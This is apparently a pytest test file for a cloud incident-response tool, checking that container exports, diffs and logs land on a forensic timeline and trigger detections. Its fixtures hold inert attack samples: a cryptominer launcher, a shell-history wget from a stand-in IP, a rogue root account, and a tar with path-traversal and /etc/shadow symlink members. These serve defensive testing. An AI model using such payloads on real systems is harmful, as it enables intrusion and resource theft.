"""Container evidence in the timeline: life, changes timed by the export, logs, and the
host parsers over the exported file system. The item is laid out as `capture container`
writes it, so these tests need no Docker engine."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cloudir.case import Case
from tests.conftest import cloudir, query

CID = "8e8b7f23eb7cbd4dfe7e91646ddd0e0f524218e25d50113559f078dfb2690206"
CREATED = "2026-11-27T05:10:00.123456789Z"
STARTED = "2026-11-27T05:10:01.5Z"
MINER_TIME = datetime(2026, 11, 27, 5, 31, 7, tzinfo=UTC)
MINER = b"#!/bin/sh\nexec /tmp/.x/xmrig -o pool:3333\n"


def _export() -> bytes:
    """A container's file system as `docker export` streams it."""
    out = io.BytesIO()
    entries: list[tuple[str, bytes | None, int, datetime]] = [
        ("etc/", None, 0o755, datetime(2026, 1, 2, tzinfo=UTC)),
        ("etc/os-release", b"ID=alpine\n", 0o644, datetime(2026, 1, 2, tzinfo=UTC)),
        ("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nx:x:0:0::/:/bin/sh\n", 0o644,
         datetime(2026, 11, 27, 5, 32, tzinfo=UTC)),
        ("tmp/", None, 0o1777, MINER_TIME),
        ("tmp/.x/", None, 0o755, MINER_TIME),
        ("tmp/.x/miner", MINER, 0o755, MINER_TIME),
        ("root/", None, 0o700, datetime(2026, 11, 27, 5, 33, tzinfo=UTC)),
        ("root/.ash_history", b"id\nwget http://203.0.113.77/m\n", 0o600,
         datetime(2026, 11, 27, 5, 33, tzinfo=UTC)),
    ]  # fmt: skip
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data, mode, when in entries:
            info = tarfile.TarInfo(name)
            info.mode = mode
            info.mtime = int(when.timestamp())
            if data is None:
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _item(
    case_dir: Path, name: str = "web", diff: Any = "default", logs: bytes | None = None
) -> str:
    case = Case.open_or_create(case_dir)
    evidence_id = case.unique_evidence_id(f"container-{name}-{CID[:12]}")
    case.open_item(evidence_id, {"kind": "container", "source": {"type": "docker", "name": name}})
    inspect = {
        "Id": CID,
        "Name": f"/{name}",
        "Created": CREATED,
        "State": {"Status": "exited", "StartedAt": STARTED, "FinishedAt": "0001-01-01T00:00:00Z",
                  "ExitCode": 0},
        "Config": {"Image": "alpine:3.20", "Cmd": ["sh", "-c", "sleep 3600"]},
    }  # fmt: skip
    changes = (
        [
            {"Path": "/tmp", "Kind": 0},
            {"Path": "/tmp/.x", "Kind": 1},
            {"Path": "/tmp/.x/miner", "Kind": 1},
            {"Path": "/etc/passwd", "Kind": 0},
            {"Path": "/etc/hostname", "Kind": 2},
        ]
        if diff == "default"
        else diff
    )
    files = {
        "inspect.json": json.dumps(inspect).encode(),
        "diff.json": json.dumps(changes).encode(),
        "logs.txt": logs
        if logs is not None
        else b"2026-11-27T05:30:00.000000001Z hello from web\n"
        b"2026-11-27T05:31:00.5Z miner started\n",
        "fs.tar": _export(),
    }
    for file_name, data in files.items():
        record = case.store_bytes(evidence_id, file_name, data)
        case.record("capture", evidence_id, [record], source={"api": f"docker:{file_name}"})
    case.record("capture-complete", evidence_id, [])
    return evidence_id


@pytest.fixture(scope="module")
def container_case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    case = tmp_path_factory.mktemp("container") / "case"
    _item(case)
    result = cloudir("timeline", "--case", str(case))
    assert result.code == 0, result.stderr
    return case


def test_the_containers_life_is_on_the_timeline(container_case: Path) -> None:
    rows = query(
        container_case,
        "SELECT timestamp, action, host, source FROM timeline "
        "WHERE artifact = 'container:state' ORDER BY timestamp",
    )
    assert [(r["action"], r["host"], r["source"]) for r in rows] == [
        ("container:created", "container:web", "container"),
        ("container:started", "container:web", "container"),
    ]  # its zero FinishedAt is no time, so no row
    assert rows[0]["timestamp"] == str(datetime(2026, 11, 27, 5, 10, 0, 123456, tzinfo=UTC))


def test_each_change_is_timed_by_the_export(container_case: Path) -> None:
    rows = query(
        container_case,
        "SELECT timestamp, timestamp_desc, action, target, raw FROM timeline "
        "WHERE artifact = 'container:diff' ORDER BY target",
    )
    by_path = {r["target"]: r for r in rows}
    assert set(by_path) == {"/tmp", "/tmp/.x", "/tmp/.x/miner", "/etc/passwd", "/etc/hostname"}
    miner = by_path["/tmp/.x/miner"]
    assert (miner["action"], miner["timestamp"]) == ("container:added", str(MINER_TIME))
    raw = json.loads(miner["raw"])
    assert raw["sha256"] == hashlib.sha256(MINER).hexdigest()
    assert (raw["mode"], raw["size"], raw["container_id"]) == ("0o755", len(MINER), CID)
    deleted = by_path["/etc/hostname"]
    assert (deleted["action"], deleted["timestamp"], deleted["timestamp_desc"]) == (
        "container:deleted",
        None,
        "Deleted (no time)",
    )
    assert "sha256" not in json.loads(by_path["/etc/passwd"]["raw"])  # not executable


def test_log_lines_keep_their_own_times(container_case: Path) -> None:
    rows = query(
        container_case,
        "SELECT timestamp, message FROM timeline WHERE artifact = 'container:log' "
        "ORDER BY timestamp",
    )
    assert [r["message"] for r in rows] == ["web: hello from web", "web: miner started"]
    assert rows[1]["timestamp"] == str(datetime(2026, 11, 27, 5, 31, 0, 500000, tzinfo=UTC))


def test_nothing_is_extracted_and_the_export_is_not_walked(container_case: Path) -> None:
    item = next((container_case / "evidence").iterdir())
    assert sorted(p.name for p in item.iterdir()) == [
        "diff.json", "fs.tar", "inspect.json", "logs.txt", "meta.json",
    ]  # fmt: skip
    fs_rows = query(
        container_case, "SELECT count(*) AS n FROM timeline WHERE artifact = 'fs:entry'"
    )
    assert fs_rows == [{"n": 0}]  # the image's own files are no evidence; the diff is


def test_bad_container_files_are_counted_not_fatal(tmp_path: Path) -> None:
    case = tmp_path / "case"
    _item(case, name="broken", diff={"not": "a list"}, logs=b"no stamp here\n")
    result = cloudir("timeline", "--case", str(case), "--json")
    assert result.code == 0, result.stderr
    reasons = [
        json.loads(line)["reason"]
        for line in (case / "timeline/errors.jsonl").read_text().splitlines()
    ]
    assert "diff.json is not a list of changes" in reasons
    assert "logs.txt line 1: no timestamp at its start" in reasons
    states = query(case, "SELECT count(*) AS n FROM timeline WHERE artifact = 'container:state'")
    assert states == [{"n": 2}]


def test_the_container_rules_fire_on_the_changes(container_case: Path) -> None:
    result = cloudir("detect", "--case", str(container_case), "--json")
    assert result.code == 1, result.stderr  # high findings, the default --fail-on
    findings = {f["title"]: f for f in result.json()["findings"]}
    assert set(findings) == {
        "Executable Added to a Container's Temporary Directory",
        "Accounts, Sudoers or SSH Keys Changed Inside a Container",
    }
    added = findings["Executable Added to a Container's Temporary Directory"]
    assert added["entities"]["targets"] == ["/tmp/.x/miner"]


def test_hostile_member_names_never_pass_for_other_paths() -> None:
    from cloudir.analyze.parsers.container import member_path

    assert member_path("./etc/passwd") == "/etc/passwd"
    assert member_path("etc/passwd") == "/etc/passwd"
    assert member_path("../../etc/passwd") == "/../../etc/passwd"
    assert member_path("/etc/passwd") == "/etc/passwd"
    assert member_path("./../etc/shadow") == "/../etc/shadow"


def test_a_hostile_export_is_read_in_place_and_recorded_as_it_is(tmp_path: Path) -> None:
    """Members named `../..` or absolute, links pointing out, a device node: all are
    recorded as the tar has them; nothing is written outside the case, nothing followed."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:

        def add(
            name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = ""
        ) -> None:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.mtime = int(MINER_TIME.timestamp())
            info.linkname = link
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            info.mode = 0o755
            tar.addfile(info, io.BytesIO(data) if info.size else None)

        add("tmp/", tarfile.DIRTYPE)
        add("../../escaped.txt", data=b"outside?\n")
        add("/abs/owned.txt", data=b"absolute\n")
        add("tmp/up", tarfile.SYMTYPE, link="../../../../etc/shadow")
        add("tmp/kmem", tarfile.CHRTYPE)
    case_dir = tmp_path / "case"
    evidence_id = _item(
        case_dir, diff=[{"Path": "/tmp/up", "Kind": 1}, {"Path": "/tmp/kmem", "Kind": 1}]
    )
    export = case_dir / "evidence" / evidence_id / "fs.tar"
    export.chmod(0o644)
    export.write_bytes(out.getvalue())  # the item's export, swapped for the hostile one
    result = cloudir("timeline", "--case", str(case_dir))
    assert result.code == 0, result.stderr
    assert "Traceback" not in result.stderr
    written = {p.name for p in tmp_path.parent.rglob("*")}
    assert not {"escaped.txt", "owned.txt"} & written
    assert not Path("/abs").exists()
    rows = {
        r["target"]: json.loads(r["raw"])
        for r in query(
            case_dir, "SELECT target, raw FROM timeline WHERE artifact = 'container:diff'"
        )
    }
    assert rows["/tmp/up"]["link_target"] == "../../../../etc/shadow"
    assert rows["/tmp/up"]["type"] == "symlink"
    assert rows["/tmp/kmem"]["mode_text"].startswith("c")
